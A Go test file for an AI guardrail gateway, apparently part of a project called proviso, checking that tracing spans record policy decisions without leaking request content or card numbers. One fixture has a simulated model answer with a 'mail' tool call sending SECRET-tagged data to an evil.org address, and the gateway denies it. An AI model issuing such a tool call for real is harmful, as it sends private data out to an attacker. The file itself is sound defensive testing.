package gateway

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/proviso-dev/proviso"
)

// spanBook is a Tracer that writes down the spans of decisions, where it wants them.
type spanBook struct {
	mu    sync.Mutex
	wants bool
	all   bool // those of requests as well
	lines []string
}

type notedSpan struct {
	noSpan
	book *spanBook
	name string
	set  []string
}

func (b *spanBook) Start(r *http.Request, name string) (context.Context, Span) {
	if !b.all {
		name = ""
	}
	return r.Context(), &notedSpan{book: b, name: name}
}

func (s *notedSpan) Decision(name string, began time.Time) Span {
	if !s.book.wants {
		return nil
	}
	return &notedSpan{book: s.book, name: name}
}

func (s *notedSpan) Set(key string, value any) { s.set = append(s.set, fmt.Sprint(key, "=", value)) }

func (s *notedSpan) End(string) {
	if s.name == "" {
		return
	}
	s.book.mu.Lock()
	defer s.book.mu.Unlock()
	s.book.lines = append(s.book.lines, s.name+" "+strings.Join(s.set, " "))
}

// has returns the one attribute of a line.
func has(line, key string) string {
	for _, f := range strings.Fields(line) {
		if v, ok := strings.CutPrefix(f, key+"="); ok {
			return v
		}
	}
	return ""
}

// Each decision about a request and its answer has a span: what was decided at which point and by which rules, and nothing of what it was decided about.
func TestDecisionsHaveSpans(t *testing.T) {
	each(t, func(t *testing.T, d dialect) {
		for _, stream := range []bool{false, true} {
			book := &spanBook{wants: true}
			door := newDoor(t, func(c *Config) { c.Telemetry.Trace = book })
			a := answer{"some SECRET words, card 1234-1234-1234-1234", []use{{"c1", "lookup", `{"id":"SECRET"}`}, {"c2", "mail", `{"to":"SECRET@evil.org","subject":"s","body":"b"}`}}}
			door.up.say(d.plain(a), d.stream(a))
			door.post(d.wire.Path(), d.request("m", []said{{role: "user", text: "SECRET"}}, nil, stream), HeaderSession, "one")
			var got []string
			for _, line := range book.lines {
				got = append(got, strings.Join([]string{has(line, "proviso.point"), has(line, "proviso.outcome"), has(line, "proviso.tool"), has(line, "proviso.edited"), has(line, "proviso.rules")}, " "))
				if strings.Contains(line, "SECRET") || strings.Contains(line, "1234") || has(line, "proviso.decision_id") == "" || has(line, "proviso.policy") == "" {
					t.Errorf("%s", line)
				}
			}
			want := []string{"session_start allow  false ", "input allow  false ", "model_request allow  false ", "model_response allow  false ", "output allow  true [cards]", "tool_call allow lookup false ", "tool_call deny mail false [mail-inside]"}
			if !slices.Equal(got, want) {
				t.Errorf("stream %v: %q, want %q", stream, got, want)
			}
		}
	})
}

// The decision API has a span for each request as well, with the lowest outcome, and below it one for each decision.
func TestDecisionAPIHasSpans(t *testing.T) {
	book := &spanBook{wants: true, all: true}
	door := newDoor(t, func(c *Config) { c.Telemetry.Trace = book })
	door.decide(`{"session":"s","tool":"lookup","args":{"id":"SECRET"}}`)
	door.post("/v1/decide/batch", `{"session":"s","parallel":true,"items":[{"tool":"lookup","args":{"id":"A"}},{"tool":"erase","args":{}}]}`)
	var got []string
	for _, line := range book.lines {
		if strings.Contains(line, "SECRET") {
			t.Errorf("%s", line)
		}
		name, _, _ := strings.Cut(line, " proviso.")
		got = append(got, strings.Join([]string{name, has(line, "proviso.point"), has(line, "proviso.outcome"), has(line, "proviso.tool")}, " "))
	}
	run := "run_guardrail proviso "
	want := []string{run + "session_start allow ", run + "tool_call allow lookup", "decide  allow ", run + "tool_call allow lookup", run + "tool_call deny erase", "decide  deny "}
	if !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

// Spans of decisions that nobody wants cost nothing.
func TestUnwantedSpansCostNothing(t *testing.T) {
	r := &proviso.Record{Event: proviso.Event{Session: "s", Seq: 1, Point: proviso.ToolCallPoint, Body: &proviso.ToolCall{Tool: "mail"}}, Decision: proviso.Decision{Reasons: []proviso.Reason{{Rule: "a", Clauses: []proviso.Clause{{ID: "c"}}}}}}
	request := httptest.NewRequest("POST", "/", nil)
	for name, tracer := range map[string]*spanBook{"no tracer": nil, "a tracer that wants none": {}} {
		x := &exchange{span: noSpan{}}
		if tracer != nil {
			_, x.span = tracer.Start(request, "chat")
		}
		if n := testing.AllocsPerRun(100, func() { x.decisionSpan(r) }); n != 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}
